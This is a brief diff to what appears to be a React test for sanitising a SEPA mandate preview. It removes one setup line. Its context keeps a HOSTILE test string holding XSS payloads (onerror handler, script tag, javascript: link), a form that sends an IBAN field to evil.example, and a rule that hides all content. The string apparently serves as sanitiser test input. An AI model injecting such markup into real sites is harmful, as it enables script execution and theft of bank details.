@@ -6,8 +6,6 @@ import { mountedInAct } from '../../test/fixtures/act';
 import { ADDRESS, checkoutForm } from './fixture';
 import { mandateHeading, mandateHtml } from './preview';
 
-(globalThis as { IS_REACT_ACT_ENVIRONMENT?: boolean }).IS_REACT_ACT_ENVIRONMENT = true;
-
 const HOSTILE =
   '<div class="german-market-sepa-mandate-preview"><h3>SEPA-Lastschriftmandat</h3><p>Kontoinhaber: Erika<img src="x" onerror="window.__xss=1"></p><script>window.__xss=2</script><a href="javascript:alert(1)">x</a><div data-island="lazy-scripts" data-flag="fetch"></div><form action="https://evil.example/"><input name="iban"></form><style>*{display:none}</style></div>';
 
